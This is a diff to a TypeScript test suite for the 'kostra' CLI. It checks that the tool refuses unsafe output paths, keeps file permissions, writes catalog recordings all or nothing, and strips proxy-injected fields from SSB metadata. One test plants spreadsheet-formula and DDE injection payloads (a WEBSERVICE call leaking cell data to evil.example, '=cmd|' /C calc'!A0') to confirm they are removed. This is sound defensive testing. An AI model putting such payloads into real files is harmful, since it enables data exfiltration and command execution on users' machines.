@@ -7,10 +7,13 @@
  * was, no temporary file is left, and "uventet feil" (exit 1) never appears. Cases that
  * must fail before any work also show that SSB (the local PxWebApi server) was not asked.
  */
-import { constants, chmodSync, closeSync, ftruncateSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { constants, chmodSync, chownSync, closeSync, ftruncateSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { execFileSync } from "node:child_process";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
+import { readTableMetadata } from "../../../src/sources/ssb/metadata";
 import { commandWorld, kostra, startKostra, type KostraOptions, type KostraRun } from "../../support/kostra-process";
+import { CATALOG_TABLES, catalogServerForSuite } from "../../support/catalog-recording";
+import type { LoggedRequest } from "../../support/pxweb-server";
 
 
 const world = commandWorld("kostra-hostile-cli-");
@@ -39,6 +42,31 @@ function workspace(): Workspace {
   writeFileSync(join(w.readonly, "kostra.json"), "earlier file in a read-only folder\n");
   chmodSync(w.readonly, 0o555);
   return w;
+}
+
+/** An earlier `name`, read-only (0444), in a folder anyone may write (so only the file's own mode stops the write). */
+function readOnlyFile(w: Workspace, name: string): string {
+  const open = join(w.dir, "open");
+  mkdirSync(open, { recursive: true });
+  chmodSync(open, 0o777);
+  const file = join(open, name);
+  writeFileSync(file, `earlier ${name}, kept read-only on purpose\n`);
+  chmodSync(file, 0o444);
+  return file;
+}
+
+/**
+ * An earlier `name` that anyone may write (0666) but that belongs to root, in a shared
+ * folder with the sticky bit (1777, as /tmp): only its owner may rename over it.
+ */
+function othersInSharedFolder(w: Workspace, name: string): string {
+  const shared = join(w.dir, "shared");
+  mkdirSync(shared, { recursive: true });
+  chmodSync(shared, 0o1777);
+  const file = join(shared, name);
+  writeFileSync(file, `earlier ${name}, someone else's\n`);
+  chmodSync(file, 0o666);
+  return file;
 }
 
 /** Every regular file below `dir` with its content (a huge one by its size). */
@@ -112,6 +140,69 @@ const CASES: Case[] = [
   { name: "fetch --klass-url with a query", args: (w) => fetchArgs(w.json, "--klass-url", "https://evil.example/klass?x=1"), code: 2, words: /--klass-url: Adressen .*\? eller #/, noRequests: true },
   { name: "catalog --live --base-url not https", args: () => ["catalog", "--live", "--base-url", "http://evil.example/"], code: 2, words: /--base-url: Adressen/, noRequests: true },
   { name: "catalog --live --record into a file", args: (w) => ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", w.victim], code: 2, words: /budsjett\.txt er ikke en mappe/, noRequests: true },
+  {
+    name: "catalog --live --record where a table's file is a folder",
+    args: (w) => (mkdirSync(join(w.dir, "rec", "12362.json"), { recursive: true }), ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", join(w.dir, "rec")]),
+    code: 2,
+    words: /12362\.json er en mappe, ikke en fil/,
+    noRequests: true,
+  },
+  // an existing file the user may not change: refused before any work (as the shell's `>` refuses it)
+  {
+    name: "fetch --out a read-only (0444) file",
+    args: (w) => fetchArgs(readOnlyFile(w, "kostra.json")),
+    code: 2,
+    words: /har ikke lov til å endre .*kostra\.json \(filen er skrivebeskyttet eller tilhører en annen\)/,
+    noRequests: true,
+    options: () => asUnprivileged,
+  },
+  {
+    name: "report --out a read-only (0444) file",
+    args: (w) => reportArgs(readOnlyFile(w, "rapport.xlsx")),
+    code: 2,
+    words: /har ikke lov til å endre .*rapport\.xlsx \(filen er skrivebeskyttet eller tilhører en annen\)/,
+    options: () => asUnprivileged,
+  },
+  {
+    name: "catalog --live --record over a read-only table file",
+    args: (w) => ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", dirname(readOnlyFile(w, "12362.json"))],
+    code: 2,
+    words: /har ikke lov til å endre .*12362\.json/,
+    noRequests: true,
+    options: () => asUnprivileged,
+  },
+  // someone else's file in a shared sticky folder: writable, but the system refuses the rename (only as root can the test make such a file)
+  ...(isRoot
+    ? [
+        {
+          name: "fetch --out someone else's writable file in a shared sticky folder (as /tmp)",
+          args: (w: Workspace) => fetchArgs(othersInSharedFolder(w, "kostra.json")),
+          code: 2,
+          words: /har ikke lov til å endre .*shared\/kostra\.json/,
+          noRequests: true,
+          options: () => asUnprivileged,
+        },
+        {
+          name: "catalog --live --record in a shared sticky folder where one table's file is someone else's",
+          args: (w: Workspace) => {
+            const folder = dirname(othersInSharedFolder(w, "12362.json"));
+            // Two earlier files of the user's own, before 12362 in the order they are written.
+            for (const t of ["07459", "11814"]) {
+              writeFileSync(join(folder, `${t}.json`), `earlier ${t}\n`);
+              chownSync(join(folder, `${t}.json`), 65534, 65534);
+            }
+            return ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", folder];
+          },
+          code: 2,
+          words: /har ikke lov til å endre .*12362\.json/,
+          noRequests: true,
+          options: () => asUnprivileged,
+        },
+      ]
+    : []),
+  // a name as long as a file name may be (255 bytes): the temporary name must fit too
+  { name: "report --out with a 250-character name", args: (w) => reportArgs(join(w.dir, `${"r".repeat(245)}.xlsx`)), code: 0, words: /skrev .*rrrr\.xlsx/ },
+  { name: "report --out with a 255-byte name in æøå", args: (w) => reportArgs(join(w.dir, `${"æ".repeat(125)}.xlsx`)), code: 0, words: /skrev .*ææææ\.xlsx/ },
   // inputs that are not regular files, or too large
   { name: "profile --input /dev/zero", args: () => ["profile", ...PROFILE, "--input", "/dev/zero"], code: 2, words: /\/dev\/zero er ikke en vanlig fil/, options: () => ({ timeoutMs: 30_000 }) },
   {
@@ -178,5 +269,105 @@ describe("hostile: a link planted where the old temporary file went (OUT.<pid>.t
     expect(r.code).toBe(0);
     expect(readFileSync(w.victim, "utf8")).toBe("the user's budget: must never be overwritten\n");
     expect(readFileSync(out, "latin1")).not.toMatch(/^earlier/);
+  });
+});
+
+describe("hostile: a replaced --out keeps its permissions", () => {
+  it.each([
+    ["report", "0600", 0o600, (w: Workspace) => reportArgs(w.xlsx)],
+    ["report", "0640", 0o640, (w: Workspace) => reportArgs(w.xlsx)],
+    ["fetch", "0600", 0o600, (w: Workspace) => fetchArgs(w.json)],
+  ] as const)("kostra %s over a %s file writes the new file with the same mode", async (_, __, mode, args) => {
+    const w = workspace();
+    const out = args(w).at(-1)!;
+    chmodSync(out, mode);
+    const r = await kostra(args(w));
+    expect(r.code).toBe(0);
+    expect(readFileSync(out, "latin1")).not.toMatch(/^earlier/);
+    expect(statSync(out).mode & 0o777).toBe(mode);
+    expect(readdirSync(w.dir).filter((f) => f.endsWith(".tmp"))).toEqual([]);
+  });
+});
+
+/**
+ * `kostra catalog --live --record DIR`: the folder holds an earlier recording of every
+ * catalog table. Whatever happens during the run — Ctrl+C while SSB answers the 13th
+ * table, a proxy's login page instead of it — the folder is byte-for-byte as it was
+ * (README: "a cancelled run writes nothing"); and what is recorded is only what the
+ * metadata schema checked, never fields a proxy added.
+ */
+describe("hostile: kostra catalog --live --record is all or nothing", () => {
+  const catalogServer = catalogServerForSuite();
+  const TABLES = CATALOG_TABLES;
+  const METADATA_FIXTURES = join(__dirname, "..", "..", "fixtures", "ssb", "metadata");
+
+  /** A record folder holding an earlier recording of every table (the shipped fixtures). */
+  function earlierRecording(): string {
+    const dir = join(world.folder(), "metadata");
+    mkdirSync(dir);
+    for (const t of TABLES) writeFileSync(join(dir, `${t}.json`), readFileSync(join(METADATA_FIXTURES, `${t}.json`)));
+    return dir;
+  }
+  const record = (dir: string) => ["catalog", "--live", "--base-url", catalogServer().baseUrl, "--record", dir, "--format", "json"];
+  const asksFor = (table: string) => (q: LoggedRequest) => q.path === `/tables/${table}/metadata`;
+
+  it("(the catalog's tables) 12362 comes after a dozen others, so a stop there is part-way", () => {
+    expect(TABLES.indexOf("12362")).toBeGreaterThan(10);
+    expect(TABLES.length).toBeGreaterThan(TABLES.indexOf("12362") + 2);
+  });
+
+  it("Ctrl+C while SSB answers table 12362: exit 130, every earlier file as it was, no temporary file", async () => {
+    const dir = earlierRecording();
+    const before = snapshot(dir);
+    catalogServer().delayNext(1, 60_000, asksFor("12362"));
+    const from = catalogServer().requests.length;
+    const run = startKostra(record(dir), { timeoutMs: 90_000 });
+    while (!catalogServer().requests.slice(from).some(asksFor("12362"))) await new Promise((r) => setTimeout(r, 20));
+    run.child.kill("SIGINT");
+    const r = await run.done;
+    expect(r.code).toBe(130);
+    expect(r.err).toMatch(/kostra: .*avbrutt/i);
+    expect(r.out).toBe("");
+    expect(snapshot(dir)).toEqual(before);
+  });
+
+  it("a proxy's login page instead of table 12362: exit 3, every earlier file as it was", async () => {
+    const dir = earlierRecording();
+    const before = snapshot(dir);
+    catalogServer().hostileNext(1, { kind: "html-200" }, asksFor("12362"));
+    const r = await kostra(record(dir), { timeoutMs: 90_000 });
+    expect(r.code).toBe(3);
+    expect(r.err).not.toMatch(/uventet feil/);
+    expect(snapshot(dir)).toEqual(before);
+  });
+
+  it("an answer that passes the schema but carries a proxy's additions: only the checked metadata is recorded", async () => {
+    const dir = earlierRecording();
+    const url = `${catalogServer().baseUrl}/tables/12362/metadata?lang=no&outputFormat=json-stat2`;
+    const genuine = (await (await fetch(url)).json()) as Record<string, unknown> & { dimension: Record<string, Record<string, unknown>>; note?: unknown[] };
+    const [firstDimension] = Object.keys(genuine.dimension);
+    const hostile = {
+      ...genuine,
+      formula: 'WEBSERVICE("http://evil.example/?"&A2)',
+      note: [...(genuine.note ?? []), { formula: 'HYPERLINK("http://evil.example/")' }, "a note with a forbidden \uFFFE character"],
+      dimension: { ...genuine.dimension, [firstDimension]: { ...genuine.dimension[firstDimension], link: { href: "http://evil.example/" } } },
+      extension: { ...(genuine.extension as object), proxy: { injected: "=cmd|' /C calc'!A0" }, kostraBenchmark: { provenance: "reconstructed", recordedFrom: "http://evil.example/" } },
+    };
+    catalogServer().failNext(1, { status: 200, body: JSON.stringify(hostile), contentType: "application/json; charset=utf-8" }, asksFor("12362"));
+    const r = await kostra(record(dir), { timeoutMs: 90_000 });
+    expect([r.code, r.err]).toEqual([0, expect.not.stringMatching(/uventet feil/)]);
+    const text = readFileSync(join(dir, "12362.json"), "utf8");
+    expect(text).not.toMatch(/evil\.example|formula|WEBSERVICE|HYPERLINK|injected|"link"|\uFFFE/i);
+    const saved = JSON.parse(text) as { extension: Record<string, unknown>; note: unknown[] };
+    expect(Object.keys(saved.extension).sort()).toEqual(["kostraBenchmark", "px"]);
+    expect(saved.extension.kostraBenchmark).toEqual({ provenance: "recorded", recordedFrom: `${catalogServer().baseUrl}/tables/12362/metadata?lang=no`, recordedAt: expect.any(String) });
+    expect(saved.note.every((n) => typeof n === "string")).toBe(true);
+    expect(saved.note).toContain("a note with a forbidden \uFFFD character");
+    // What was recorded is what the schema made of the answer: read back, the same metadata.
+    expect(readTableMetadata(saved, "recorded")).toEqual(readTableMetadata(hostile, "answer"));
+    expect(readTableMetadata(saved, "recorded").dimensions.length).toBeGreaterThan(2);
+    // And every other table was recorded from the same run.
+    expect(readdirSync(dir).sort()).toEqual(TABLES.map((t) => `${t}.json`));
+    expect(readdirSync(dir).every((f) => readFileSync(join(dir, f), "utf8") !== readFileSync(join(METADATA_FIXTURES, f), "utf8"))).toBe(true);
   });
 });
